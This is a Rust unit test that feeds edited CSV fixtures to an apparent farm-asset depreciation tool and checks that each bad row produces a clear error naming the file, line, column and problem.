fn bad_asset_rows_name_the_file_line_and_column() {
    let edit = |file: &'static str, from: &'static str, to: &'static str| {
        asset_folder(replace_once(file, from, to))
    };
    let cases = [
        (
            edit("资产.csv", ",10000,,payable", ",,,payable"),
            "资产.csv, line 3, column 9 \"预计总工作量 total_units\": the cell is empty; an asset depreciated by units of work needs a number above zero, such as 8.00",
        ),
        (
            edit("资产.csv", ",,120,,GH01", ",,120,5,GH01"),
            "资产.csv, line 2, column 9 \"预计总工作量 total_units\": an asset depreciated straight-line takes no value here; leave the cell empty",
        ),
        (
            edit("资产.csv", ",GH01,", ",GH09,"),
            "资产.csv, line 2, column 10 \"大棚编号 greenhouse\": no greenhouse \"GH09\" in 大棚.csv",
        ),
        (
            edit("资产.csv", "2019/7/10", "2019/1/30"),
            "资产.csv, line 2, column 12 \"处置日期 retired\": the last day in use, 2019-01-30, is before the day the asset was put into use, 2019-01-31; expected a day on or after it",
        ),
        (
            edit("资产.csv", "payable,,,", "payable,,100,"),
            "资产.csv, line 3, column 13 \"处置收入 proceeds\": only an asset taken out of use (with 处置日期 retired) has proceeds; this row takes no value here; leave the cell empty",
        ),
        (
            edit("资产.csv", "fixed", "机器"),
            "资产.csv, line 3, column 3 \"类别 kind\": expected one of 固定资产 fixed, 生产性生物资产 productive_biological, found \"机器\"",
        ),
        (
            edit("adjustments.csv", "T01,120.5", "T09,120.5"),
            "adjustments.csv, line 2, column 5 \"refs\": no asset \"T09\" in 资产.csv",
        ),
        (
            edit("adjustments.csv", "2019/6/30,depreciation,,,,", "2019/6/30,depreciation,,,,5"),
            "adjustments.csv, line 5, column 6 \"units\": depreciation takes no value here; leave the cell empty",
        ),
        (
            edit("adjustments.csv", "T01,120.5", "T01,"),
            "adjustments.csv, line 2, column 6 \"units\": the cell is empty; units of work needs a number above zero, such as 8.00",
        ),
    ];
    for (files, expected) in cases {
        assert_eq!(problems(&files), [expected]);
    }
}
